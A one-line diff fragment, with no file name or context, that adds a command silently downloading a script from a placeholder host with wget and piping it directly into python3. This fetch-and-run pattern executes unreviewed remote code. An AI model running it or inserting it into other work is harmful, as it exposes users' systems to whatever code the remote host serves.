@@ -1,0 +1,1 @@
+wget -qO- https://tools.example.com/start | python3 -
